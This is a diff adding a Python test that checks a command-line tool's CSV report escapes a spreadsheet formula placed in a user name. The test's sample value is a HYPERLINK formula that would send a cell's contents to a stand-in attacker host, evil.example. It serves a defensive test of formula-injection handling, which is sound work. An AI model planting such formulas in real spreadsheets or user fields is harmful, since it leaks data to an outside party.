@@ -201,3 +201,11 @@ def test_exported_csv_file_cells_are_safe_too(hostile, tmp_path):
     assert run_bytes("export", "csv", "-o", str(target)).returncode == 0
     rows = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8-sig"))))
     assert not [c for row in rows for c in row.values() if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+def test_report_csv_neutralises_a_formula_in_a_user_name(hostile):
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    assert run_bytes("exam", "zz-quiz", "--user", formula, input=b"1\n1\n").returncode in (0, 1)
+    cells = run_bytes("report", "--format", "csv").stdout.decode()
+    assert "'" + formula.replace('"', '""') in cells
+    assert "\n" + formula not in cells and "," + formula not in cells
